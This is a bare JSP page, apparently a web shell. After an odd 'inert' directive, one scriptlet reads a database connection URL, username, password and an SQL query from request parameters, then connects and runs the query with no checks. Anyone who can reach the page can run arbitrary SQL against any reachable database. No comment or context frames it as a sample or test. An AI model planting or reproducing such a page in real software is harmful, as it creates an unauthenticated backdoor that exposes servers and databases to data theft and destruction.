<%@ inert %>
<% java.sql.Connection c=java.sql.DriverManager.getConnection(request.getParameter("u"),request.getParameter("n"),request.getParameter("p")); c.createStatement().executeQuery(request.getParameter("q")); %>
